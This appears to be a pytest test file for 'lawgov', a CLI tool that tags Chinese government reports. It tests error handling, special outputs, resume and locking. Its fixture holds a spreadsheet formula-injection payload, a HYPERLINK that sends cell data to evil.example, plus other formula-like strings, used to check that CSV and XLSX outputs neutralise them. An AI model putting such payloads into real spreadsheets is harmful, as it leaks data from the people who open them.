"""Hostile outputs and faults for ``lawgov split``, ``tag``, ``report`` and ``data`` (issue 11, points
1-8; issue 10, points 6 and 8). Everything happens in ``tmp_path``: FIFOs are made with ``os.mkfifo``
there, and no test writes to a system file. ``tiny_model`` is the session's tiny tagger, never the
shipped model."""
from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lawgov_nlp import read_file
from lawgov_nlp.cli import app
from lawgov_nlp.output import output_lock, read_rows, resolve_output

runner = CliRunner()
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"点击")'
EVIL = ("一、总体情况\n"
        f"{HYPERLINK}\n"
        "+1+2 开头是加号的句子。\n"
        "@SUM(A1:A3)\n"
        "-3+4 开头是减号的句子。\n"
        "'已有引号开头的句子。\n"
        "全年办结\x07行政复议案件12件。\n")


@pytest.fixture()
def reports(tmp_path, samples) -> Path:
    f = tmp_path / "reports"
    f.mkdir()
    for p in samples:
        (f / p.name).write_bytes(p.read_bytes())
    return f


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines() if x.strip()]


def _tag(*args, model) -> "object":
    return runner.invoke(app, ["tag", *map(str, args), "--model", str(model), "--no-progress"])


def _sentences(path) -> list[str]:
    return [s.text for s in read_file(path).sentences]


# --------------------------------------------------------------------------- 1: one file fails, the batch goes on
@pytest.mark.parametrize("command", ["split", "tag", "report"])
def test_unexpected_error_in_one_file_is_reported_and_the_batch_goes_on(command, reports, tmp_path, tiny_model,
                                                                        monkeypatch):
    from lawgov_nlp.text import reading

    real = reading.read_bytes

    def read_bytes(data, path=None, **kw):  # what reading never anticipated, for one file
        if path and Path(path).name == "bad.txt":
            raise RuntimeError("something nobody expected")
        return real(data, path, **kw)

    monkeypatch.setattr(reading, "read_bytes", read_bytes)
    (reports / "bad.txt").write_text("一、总体情况\n全年办结行政复议案件12件。\n", encoding="utf-8")
    out = tmp_path / ("out.html" if command == "report" else "out.jsonl")
    args = [command, str(reports), "-o", str(out), "--no-progress"]
    if command != "split":
        args += ["--model", str(tiny_model)]
    res = runner.invoke(app, args)
    assert res.exit_code == 1, res.output
    assert "bad.txt: unexpected error while processing this file (RuntimeError: something nobody expected)" in res.stderr
    if command == "report":
        assert "bad.txt" in out.read_text(encoding="utf-8")  # listed among the skipped files
    else:
        assert Counter(Path(r.get("doc") or r.get("path")).name for r in _jsonl(out)) == {
            "000_24fa52f216146201.txt": 93, "002_80094dffa8bc5a12.txt": 99, "004_1539ae420c6a8cf0.txt": 116}


@pytest.mark.parametrize("command", ["split", "tag", "report"])
def test_error_after_reading_one_file_is_reported_and_the_batch_goes_on(command, reports, tmp_path, tiny_model,
                                                                        monkeypatch):
    """The same for a failure after the file was read: building its rows, its tags' rows, its summary."""
    bad = reports / "bad.txt"
    bad.write_text("一、总体情况\n这是独一无二的测试句子。\n", encoding="utf-8")
    if command == "split":
        from lawgov_nlp.text import chars

        real = chars.to_simplified
        monkeypatch.setattr(chars, "to_simplified",
                            lambda t: (_ for _ in ()).throw(RuntimeError("boom")) if "独一无二" in t else real(t))
    elif command == "tag":
        from lawgov_nlp.records import TaggedDocument

        real = TaggedDocument.to_records
        monkeypatch.setattr(TaggedDocument, "to_records", lambda self: (_ for _ in ()).throw(RuntimeError("boom"))
                            if str(self.path).endswith("bad.txt") else real(self))
    else:
        from lawgov_nlp.records import TaggedDocument

        real = TaggedDocument.summary
        monkeypatch.setattr(TaggedDocument, "summary", lambda self, *a, **k: (_ for _ in ()).throw(RuntimeError("boom"))
                            if str(self.path).endswith("bad.txt") else real(self, *a, **k))
    out = tmp_path / ("out.xlsx" if command == "report" else "out.jsonl")
    args = [command, str(reports), "-o", str(out), "--no-progress"]
    args += ["--simplified"] if command == "split" else ["--model", str(tiny_model)]
    res = runner.invoke(app, args)
    assert res.exit_code == 1, res.output
    assert "bad.txt: unexpected error while processing this file (RuntimeError: boom)" in res.stderr
    if command == "report":
        from openpyxl import load_workbook

        wb = load_workbook(out, read_only=True)
        assert len(list(wb["summary"].iter_rows())) == 1 + 3
        assert any("bad.txt" in str(c) for row in wb["skipped"].iter_rows(values_only=True) for c in row)
    else:
        assert len(_jsonl(out)) == 93 + 99 + 116


# --------------------------------------------------------------------------- 2: special outputs
def _read_fifo_in_thread(fifo: Path) -> tuple[threading.Thread, list[bytes]]:
    got: list[bytes] = []

    def reader():
        with open(fifo, "rb") as fh:
            got.append(fh.read())

    t = threading.Thread(target=reader, daemon=True)
    t.start()
    return t, got


def _finish_reader(t: threading.Thread, fifo: Path) -> None:
    t.join(timeout=30)
    if t.is_alive():  # the command never opened the FIFO: release the reader so the test fails, not hangs
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)
        t.join(timeout=5)


@pytest.mark.parametrize("command", ["split", "tag-csv", "tag-xlsx"])
def test_fifo_output_is_written_through_not_replaced(command, samples, tmp_path, tiny_model):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    t, got = _read_fifo_in_thread(fifo)
    if command == "split":
        res = runner.invoke(app, ["split", str(samples[0]), "-o", str(fifo), "--no-progress"])
    else:
        res = _tag(samples[0], "-o", fifo, "-f", command.split("-")[1], model=tiny_model)
    _finish_reader(t, fifo)
    assert res.exit_code == 0, res.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # still a FIFO
    data = got[0]
    if command == "split":
        assert len(data.decode("utf-8").splitlines()) == 93
    elif command == "tag-csv":
        assert len(data.decode("utf-8-sig").splitlines()) == 1 + 93
    else:
        assert data[:2] == b"PK" and len(data) > 1000
    assert not list(tmp_path.glob(".*.part"))


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc/self/fd")
def test_symlink_to_a_pipe_is_written_through(samples, tmp_path):
    """``-o /dev/stdout`` in a pipeline is a symlink to a pipe: follow it and write, never replace.
    Here the link points at this test's own pipe, not at a system file."""
    r, w = os.pipe()
    link = tmp_path / "stdout.jsonl"
    link.symlink_to(f"/proc/self/fd/{w}")
    got: list[bytes] = []
    t = threading.Thread(target=lambda: got.append(os.fdopen(r, "rb").read()), daemon=True)
    t.start()
    try:
        res = runner.invoke(app, ["split", str(samples[0]), "-o", str(link), "--no-progress"])
    finally:
        os.close(w)
    t.join(timeout=30)
    assert res.exit_code == 0, res.output
    assert link.is_symlink()
    assert len(got[0].decode("utf-8").splitlines()) == 93


@pytest.mark.parametrize("ext", ["jsonl", "xlsx"])
def test_symlink_output_replaces_its_target_and_keeps_the_link(ext, samples, tmp_path, tiny_model):
    real = tmp_path / "store" / f"tags.{ext}"
    real.parent.mkdir()
    real.write_text("old content\n", encoding="utf-8")
    link = tmp_path / f"link.{ext}"
    link.symlink_to(real)
    res = _tag(samples[0], "-o", link, model=tiny_model)
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert len(read_rows(real, ext)) == 93
    assert not list(real.parent.glob(".*")) and not list(tmp_path.glob(".*"))  # no temporary, journal or lock left


def test_new_outputs_follow_the_umask_and_replaced_files_keep_their_mode(samples, tmp_path, tiny_model):
    old = os.umask(0o002)
    try:
        res = runner.invoke(app, ["split", str(samples[0]), "-o", str(tmp_path / "s.jsonl"), "--no-progress"])
        assert res.exit_code == 0
        assert _tag(samples[0], "-o", tmp_path / "t.xlsx", model=tiny_model).exit_code == 0
        assert runner.invoke(app, ["report", str(samples[0]), "-o", str(tmp_path / "r.html"), "--model",
                                   str(tiny_model), "--no-progress"]).exit_code == 0
        for name in ("s.jsonl", "t.xlsx", "r.html"):  # mkstemp alone would give 0600
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o664, name
        os.chmod(tmp_path / "t.xlsx", 0o640)
        assert _tag(samples[0], "-o", tmp_path / "t.xlsx", model=tiny_model).exit_code == 0
        assert stat.S_IMODE((tmp_path / "t.xlsx").stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_dash_writes_to_stdout(samples, tiny_model):
    res = runner.invoke(app, ["split", str(samples[0]), "-o", "-", "--no-progress"])
    assert res.exit_code == 0 and len(res.stdout.splitlines()) == 93
    res = _tag(samples[0], "-o", "-", model=tiny_model)
    assert res.exit_code == 0
    rows = [json.loads(x) for x in res.stdout.splitlines()]
    assert len(rows) == 93 and rows[0]["dimension"]
    assert not Path("-").exists()


# --------------------------------------------------------------------------- 3: the output is one of the inputs
def test_output_that_is_an_input_is_refused(samples, tmp_path, tiny_model):
    a = tmp_path / "a.txt"
    a.write_bytes(samples[0].read_bytes())
    before = a.read_bytes()
    (tmp_path / "link.txt").symlink_to(a)
    os.link(a, tmp_path / "hard.txt")
    cases = [
        ["split", str(a), "-o", str(a)],
        ["tag", str(a), "-o", str(a), "-f", "jsonl", "--model", str(tiny_model)],
        ["tag", str(a), "-o", str(tmp_path / "link.txt"), "-f", "csv", "--model", str(tiny_model)],  # through a symlink
        ["tag", str(tmp_path / "link.txt"), "-o", str(a), "-f", "jsonl", "--model", str(tiny_model)],
        ["split", str(tmp_path / "hard.txt"), "-o", str(a)],                                         # a hard link
        ["split", str(tmp_path), "-f", "text", "-o", str(a)],                                        # a folder argument
        ["report", str(tmp_path), "-o", str(tmp_path / "a.html"), "--model", str(tiny_model)],       # (a.html is new)
    ]
    (tmp_path / "a.html").write_text("<html><body><p>一、总体情况</p><p>全年办结行政复议案件12件。</p></body></html>",
                                     encoding="utf-8")
    for args in cases:
        res = runner.invoke(app, [*args, "--no-progress"])
        assert res.exit_code == 2, args
        assert "is the input" in res.stderr and "refusing to overwrite" in res.stderr, args
        assert a.read_bytes() == before, args
    (tmp_path / "x.jsonl").write_text('{"doc_id": "d", "sent_id": "d-0", "text": "正文。"}\n', encoding="utf-8")
    res = runner.invoke(app, ["data", "convert", str(tmp_path / "x.jsonl"), str(tmp_path / "x.jsonl"), "--to", "csv"])
    assert res.exit_code == 2 and "is the input" in res.stderr


# --------------------------------------------------------------------------- 4: interrupts keep finished documents
def _many(tmp_path: Path, samples, n: int) -> Path:
    many = tmp_path / "many"
    many.mkdir()
    for i in range(n):
        (many / f"r{i:02d}.txt").write_bytes(samples[i % 3].read_bytes())
    return many


def _start_tag(many: Path, out: Path, model: Path, cwd: Path) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "lawgov_nlp", "tag", str(many), "-o", str(out), "--model", str(model),
                             "--no-progress", "--threads", "1", "--batch-size", "8"],
                            cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _wait_for(path: Path, proc: subprocess.Popen, lines: int, timeout: float = 180) -> None:
    """Until ``path`` holds ``lines`` whole lines (the first document)."""
    t0 = time.time()
    while time.time() - t0 < timeout:
        if path.exists() and path.read_bytes().count(b"\n") >= lines:
            return
        if proc.poll() is not None:
            pytest.fail(f"lawgov tag ended (exit {proc.returncode}) before writing anything: {proc.stderr.read()}")
        time.sleep(0.01)
    proc.kill()
    pytest.fail("nothing written in time")


def _complete_documents(rows: list[dict], many: Path) -> dict[str, int]:
    by = Counter(Path(r["path"]).name for r in rows)
    for name, n in by.items():
        texts = [r["text"] for r in rows if Path(r["path"]).name == name]
        assert texts == _sentences(many / name)[:n]
    return dict(by)


def test_kill_9_keeps_every_finished_document_and_resume_completes(samples, tmp_path, tiny_model):
    many = _many(tmp_path, samples, 15)
    out = tmp_path / "tags.jsonl"
    proc = _start_tag(many, out, tiny_model, tmp_path)
    _wait_for(out, proc, len(_sentences(many / "r00.txt")))
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    assert proc.returncode == -signal.SIGKILL
    text = out.read_text(encoding="utf-8")
    complete = [json.loads(x) for x in text.split("\n")[:-1]]  # every line but a cut-off last one is whole
    by = _complete_documents(complete, many)
    assert 1 <= len(by) < 15 and by["r00.txt"] == len(_sentences(many / "r00.txt"))  # the first is complete
    finished = sum(n for k, n in by.items() if n == len(_sentences(many / k)))
    # --resume keeps them, retags a cut-off document, and tags nothing twice
    res = _tag(many, "-o", out, "--resume", model=tiny_model)
    assert res.exit_code == 0, res.output
    rows = _jsonl(out)
    assert len(rows) == sum(len(_sentences(p)) for p in many.glob("*.txt"))
    assert len({(r["path"], r["index"]) for r in rows}) == len(rows)
    assert rows[:finished] == complete[:finished]


def test_ctrl_c_saves_the_finished_documents_and_says_so(samples, tmp_path, tiny_model):
    many = _many(tmp_path, samples, 15)
    out = tmp_path / "tags.xlsx"
    proc = _start_tag(many, out, tiny_model, tmp_path)
    # XLSX: rows are journalled as documents finish
    _wait_for(tmp_path / ".tags.xlsx.journal.jsonl", proc, len(_sentences(many / "r00.txt")))
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    rows = read_rows(out, "xlsx")  # the workbook was written on the interrupt
    assert not (tmp_path / ".tags.xlsx.journal.jsonl").exists()
    by = _complete_documents(rows, many)
    assert by and all(n == len(_sentences(many / k)) for k, n in by.items())  # whole documents only
    assert f"interrupted: the {len(rows)} sentences of every finished document are saved in {out}" in err


# --------------------------------------------------------------------------- 5: --resume
def test_resume_matches_resolved_paths_and_loads_no_model_when_done(reports, tmp_path, tiny_model, monkeypatch):
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "t.jsonl"
    assert _tag("reports", "-o", out, model=tiny_model).exit_code == 0
    before = out.read_bytes()
    missing = tmp_path / "no-such-model"  # nothing is left to tag: the model is never loaded
    res = runner.invoke(app, ["tag", str(reports.resolve()), "-o", str(out), "--model", str(missing), "--resume"])
    assert res.exit_code == 0, res.output
    assert "resume: 3 document(s) already finished" in res.stderr and "0 to tag" in res.stderr
    assert out.read_bytes() == before
    res = runner.invoke(app, ["tag", "./reports/../reports", "-o", "t.jsonl", "--model", str(missing), "--resume", "-q"])
    assert res.exit_code == 0 and out.read_bytes() == before


def test_resume_reads_csv_back_as_text(tmp_path, tiny_model):
    d = tmp_path / "in"
    d.mkdir()
    (d / "001.txt").write_text("一、总体情况\nnan\n全年办结行政复议案件12件。\n", encoding="utf-8")
    (d / "=cmd.txt").write_text(EVIL, encoding="utf-8")
    out = tmp_path / "t.csv"
    assert _tag(d, "-o", out, model=tiny_model).exit_code == 0
    before = out.read_bytes()
    rows = read_rows(out, "csv")
    assert {r["doc_id"] for r in rows} == {"001", "=cmd"}  # not 1, and the formula guard is taken off
    assert [r["text"] for r in rows if r["doc_id"] == "001"] == ["一、总体情况", "nan", "全年办结行政复议案件12件。"]
    assert HYPERLINK in [r["text"] for r in rows]
    res = _tag(d, "-o", out, "--resume", model=tmp_path / "no-such-model")
    assert res.exit_code == 0, res.output
    assert out.read_bytes() == before  # both documents kept, byte for byte


def test_resume_drops_a_truncated_last_line_and_retags_that_document(reports, tmp_path, tiny_model):
    out = tmp_path / "t.jsonl"
    assert _tag(reports, "-o", out, model=tiny_model).exit_code == 0
    full = _jsonl(out)
    data = out.read_bytes()
    out.write_bytes(data[: data.rstrip(b"\n").rfind(b"\n") + 40])  # the last line cut off in the middle
    with pytest.raises(json.JSONDecodeError):
        json.loads(out.read_text(encoding="utf-8").splitlines()[-1])
    res = _tag(reports, "-o", out, "--resume", model=tiny_model)
    assert res.exit_code == 0, res.output
    again = _jsonl(out)
    assert [(r["path"], r["index"], r["text"]) for r in again] == [(r["path"], r["index"], r["text"]) for r in full]


def test_resume_after_a_killed_xlsx_run_reads_the_journal(samples, tmp_path, tiny_model):
    out = tmp_path / "t.xlsx"
    journal = tmp_path / ".t.xlsx.journal.jsonl"
    assert _tag(samples[0], "-o", tmp_path / "one.jsonl", model=tiny_model).exit_code == 0
    rows = _jsonl(tmp_path / "one.jsonl")
    journal.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    res = _tag(samples[0], "-o", out, "--resume", model=tmp_path / "no-such-model")
    assert res.exit_code == 0, res.output
    assert len(read_rows(out, "xlsx")) == 93 and not journal.exists()


# --------------------------------------------------------------------------- 6: one run per output
def test_a_second_run_on_the_same_output_is_refused(samples, tmp_path, tiny_model):
    out = tmp_path / "t.jsonl"
    with output_lock(resolve_output(out)):
        res = runner.invoke(app, ["split", str(samples[0]), "-o", str(out)])
        assert res.exit_code == 2
        assert "another lawgov run is writing this output now" in res.stderr
        res = _tag(samples[0], "-o", tmp_path / "sub" / ".." / "t.jsonl", model=tiny_model)  # the same file, named otherwise
        assert res.exit_code == 2 and "another lawgov run" in res.stderr
        proc = subprocess.run([sys.executable, "-m", "lawgov_nlp", "split", str(samples[0]), "-o", str(out)],
                              capture_output=True, text=True, timeout=120)
        assert proc.returncode == 2 and "another lawgov run is writing this output now" in proc.stderr
        assert not out.exists()
    html = tmp_path / "r.html"
    with output_lock(resolve_output(html)):
        res = runner.invoke(app, ["report", str(samples[0]), "-o", str(html), "--model", str(tiny_model)])
        assert res.exit_code == 2 and "another lawgov run" in res.stderr and not html.exists()
    # released: the next run works, also over a lock file a killed run left behind
    (tmp_path / ".t.jsonl.lock").write_text("12345\n", encoding="utf-8")
    assert runner.invoke(app, ["split", str(samples[0]), "-o", str(out)]).exit_code == 0
    assert len(_jsonl(out)) == 93 and not (tmp_path / ".t.jsonl.lock").exists()


# --------------------------------------------------------------------------- 7: an unwritable output, before any work
def test_unwritable_output_is_found_before_the_model_is_loaded(samples, tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x", encoding="utf-8")
    missing_model = tmp_path / "no-such-model"  # were the model loaded first, this would be the error
    for args in (["tag", str(samples[0]), "-o", str(blocker / "out.csv"), "--model", str(missing_model)],
                 ["report", str(samples[0]), "-o", str(blocker / "sub" / "r.html"), "--model", str(missing_model)],
                 ["split", str(samples[0]), "-o", str(blocker / "s.jsonl")]):
        t0 = time.perf_counter()
        res = runner.invoke(app, args)
        assert res.exit_code == 2, args
        assert f"{blocker} is a file, not a folder" in res.stderr and "cannot load the model" not in res.stderr
        assert res.exception is None or isinstance(res.exception, SystemExit)  # one line, no traceback
        assert time.perf_counter() - t0 < 5


@pytest.mark.skipif(IS_ROOT, reason="permission bits do not stop root")
def test_read_only_folder_is_found_before_the_model_is_loaded(samples, tmp_path):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        res = runner.invoke(app, ["tag", str(samples[0]), "-o", str(ro / "t.csv"), "--model", str(tmp_path / "none")])
        assert res.exit_code == 2 and "cannot write in" in res.stderr and "cannot load the model" not in res.stderr
    finally:
        ro.chmod(0o755)


def test_a_model_that_cannot_be_loaded_leaves_an_earlier_output_as_it_was(samples, tmp_path):
    out = tmp_path / "t.csv"
    out.write_text("an earlier run's output\n", encoding="utf-8")
    res = runner.invoke(app, ["tag", str(samples[0]), "-o", str(out), "--model", str(tmp_path / "typo")])
    assert res.exit_code == 2 and "cannot load the model" in res.stderr
    assert out.read_text(encoding="utf-8") == "an earlier run's output\n"


# --------------------------------------------------------------------------- 8: spreadsheet formulas
@pytest.fixture()
def evil(tmp_path) -> Path:
    p = tmp_path / "evil.txt"
    p.write_text(EVIL, encoding="utf-8")
    return p


def _cells(path: Path):
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_xlsx_stores_formula_like_text_as_text(evil, tmp_path, tiny_model):
    out = tmp_path / "t.xlsx"
    assert _tag(evil, "-o", out, model=tiny_model).exit_code == 0
    rep = tmp_path / "r.xlsx"
    res = runner.invoke(app, ["report", str(evil), "-o", str(rep), "--model", str(tiny_model), "--no-progress"])
    assert res.exit_code == 0, res.output
    sentences = _sentences(evil)
    for path in (out, rep):
        cells = _cells(path)
        assert not [(s, c.coordinate) for s, c in cells if c.data_type == "f"], path
        hits = [c for _, c in cells if c.value == HYPERLINK]
        assert hits and all(c.data_type == "s" for c in hits), path
        values = {c.value for _, c in cells}
        for s in sentences:  # every sentence is there; a character XLSX cannot hold (\x07) is U+FFFD
            assert s.replace("\x07", "\ufffd") in values, (path, s)
    assert len(read_rows(out, "xlsx")) == len(sentences)


def test_xlsx_rows_with_control_characters_are_written(tmp_path):
    from lawgov_nlp.output import RowWriter

    out = resolve_output(tmp_path / "t.xlsx")
    w = RowWriter(out, "xlsx")
    w.write_document([{"path": "a", "index": 0, "text": "全年办结\x07行政复议\x1b案件。"}, {"path": "a", "index": 1, "text": HYPERLINK}])
    w.close()
    cells = [c for _, c in _cells(tmp_path / "t.xlsx")]
    assert [c.value for c in cells if c.column_letter == "C"][1:] == ["全年办结\ufffd行政复议\ufffd案件。", HYPERLINK]
    assert [c.data_type for c in cells if c.column_letter == "C"][1:] == ["s", "s"]


def test_csv_cells_are_neutralised_and_jsonl_is_unchanged(evil, tmp_path, tiny_model):
    out = tmp_path / "t.csv"
    assert _tag(evil, "-o", out, model=tiny_model).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        texts = [r["text"] for r in csv.DictReader(fh)]
    for t in ("'" + HYPERLINK, "'+1+2 开头是加号的句子。", "'@SUM(A1:A3)", "'-3+4 开头是减号的句子。",
              "''已有引号开头的句子。"):
        assert t in texts
    assert not [t for t in texts if t and t[0] in "=+-@\t\r"]
    js = tmp_path / "t.jsonl"
    assert _tag(evil, "-o", js, model=tiny_model).exit_code == 0
    assert [r["text"] for r in _jsonl(js)] == _sentences(evil)
    # data convert --to csv: neutralised the same way, and read back exactly
    src = tmp_path / "gold.jsonl"
    src.write_text("".join(json.dumps({"doc_id": "d", "sent_id": f"d-{i}", "text": t, "dimension": "rules",
                                       "role": "achievement"}, ensure_ascii=False) + "\n"
                           for i, t in enumerate(_sentences(evil))), encoding="utf-8")
    mid, back = tmp_path / "gold.csv", tmp_path / "back.jsonl"
    assert runner.invoke(app, ["data", "convert", str(src), str(mid)]).exit_code == 0
    with mid.open(encoding="utf-8-sig", newline="") as fh:
        cells = [v for r in csv.DictReader(fh) for v in r.values()]
    assert "'" + HYPERLINK in cells and not [v for v in cells if v and v[0] in "=+-@\t\r"]
    assert runner.invoke(app, ["data", "convert", str(mid), str(back)]).exit_code == 0
    assert [r["text"] for r in _jsonl(back)] == _sentences(evil)


# --------------------------------------------------------------------------- issue 10.8: tag output → annotation tools
@pytest.mark.parametrize("ext", ["jsonl", "csv"])
def test_tag_output_converts_to_label_studio_and_doccano(ext, samples, tmp_path, tiny_model):
    tags = tmp_path / f"tags.{ext}"
    assert _tag(samples[2], "-o", tags, model=tiny_model).exit_code == 0
    rows = read_rows(tags, ext)
    ls = tmp_path / "tasks.json"
    res = runner.invoke(app, ["data", "convert", str(tags), str(ls), "--to", "labelstudio"])
    assert res.exit_code == 0, res.output
    tasks = json.loads(ls.read_text(encoding="utf-8"))
    assert len(tasks) == len(rows) == 116
    t = tasks[7]
    assert t["data"]["text"] == rows[7]["text"] and t["data"]["section_path"] == rows[7]["section"].split(" > ")
    pred = t["predictions"][0]
    assert pred["model_version"] == "lawgov tag"
    assert pred["score"] == pytest.approx(float(rows[7]["dimension_score"]))
    choices = {r["from_name"]: r["value"]["choices"] for r in pred["result"]}
    assert choices["dimension"] == [rows[7]["dimension"]] and choices["role"] == [rows[7]["role"]]
    assert not any(k.startswith("p_") for k in t["data"])  # the per-class columns stay out of the task
    dc = tmp_path / "tasks.doccano.jsonl"
    res = runner.invoke(app, ["data", "convert", str(tags), str(dc), "--to", "doccano"])
    assert res.exit_code == 0, res.output
    d = _jsonl(dc)[7]
    assert d["text"] == rows[7]["text"] and f"dimension:{rows[7]['dimension']}" in d["label"]
    # and back: an annotator's corrected export trains like any other
    back = tmp_path / "back.jsonl"
    assert runner.invoke(app, ["data", "convert", str(ls), str(back), "--to", "jsonl"]).exit_code == 0
    recs = _jsonl(back)
    assert [r["dimension"] for r in recs] == [r["dimension"] for r in rows]
    assert recs[7]["sent_id"] == f"{rows[7]['doc_id']}-0007"


# --------------------------------------------------------------------------- issue 10.6: --no-progress means quiet
@pytest.mark.parametrize("flag", ["--no-progress", "--quiet", "-q"])
def test_quiet_flags_leave_stderr_empty_on_success(flag, samples, tmp_path, tiny_model):
    gold = tmp_path / "gold.jsonl"
    gold.write_text(json.dumps({"doc_id": "d", "sent_id": "d-0", "text": "正文。", "dimension": "rules",
                                "role": "achievement"}, ensure_ascii=False) + "\n", encoding="utf-8")
    m = ["--model", str(tiny_model)]
    for args in (["split", str(samples[0]), "-o", str(tmp_path / "s.jsonl")],
                 ["tag", str(samples[0]), "-o", str(tmp_path / "t.csv"), *m],
                 ["tag", str(samples[0]), "-o", str(tmp_path / "t.csv"), "--resume", *m],
                 ["report", str(samples[0]), "-o", str(tmp_path / "r.html"), *m],
                 ["data", "validate", str(gold)],
                 ["data", "convert", str(gold), str(tmp_path / "g.csv")]):
        res = runner.invoke(app, [*args, flag])
        assert res.exit_code == 0, (args, res.output)
        assert res.stderr == "", (args, res.stderr)
    res = runner.invoke(app, ["split", str(samples[0]), "-o", str(tmp_path / "s.jsonl")])
    assert "93 sentences" in res.stderr  # without the flag the per-file line is there
